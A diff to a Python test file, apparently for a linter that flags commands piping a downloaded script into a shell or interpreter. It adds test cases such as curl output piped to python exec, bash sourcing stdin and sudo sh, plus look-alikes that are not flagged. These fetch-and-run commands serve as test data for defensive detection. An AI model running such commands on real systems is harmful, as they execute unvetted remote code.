@@ -41,6 +41,10 @@ def messages(command: str, strict: bool = False) -> list[tuple[str, str, Severit
         "bash <(curl -s https://x.example/i.sh)",
         'sh -c "$(curl -fsSL https://x.example/i.sh)"',
         "apt-get update && curl -L https://x.example | /bin/bash",
+        "curl https://x.example/tool.py | python3 -m runpy",
+        'curl -s https://x.example/i.py | python -c "import sys; exec(sys.stdin.read())"',
+        "curl -s https://x.example/i.sh | bash -c 'source /dev/stdin'",
+        "curl -s https://x.example/i.sh | sudo sh -s -- --yes",
     ],
 )
 def test_downloads_piped_to_a_shell(command: str) -> None:
@@ -55,6 +59,9 @@ def test_downloads_piped_to_a_shell(command: str) -> None:
         "curl https://x.example | jq .name",
         "bash run.sh | curl -d @- https://x.example",
         "curl https://x.example > out.sh; echo written | bash",
+        "curl -s http://localhost:8000/v1/models | python3 -m json.tool",
+        "curl -s https://api.x.example/run | python -c \"import json,sys; print(json.load(sys.stdin)['id'])\"",
+        "curl -fsSL https://x.example/key.list | sudo bash -c 'cat > /etc/apt/sources.list.d/x.list'",
     ],
 )
 def test_look_alikes_are_not_pipes_to_a_shell(command: str) -> None:
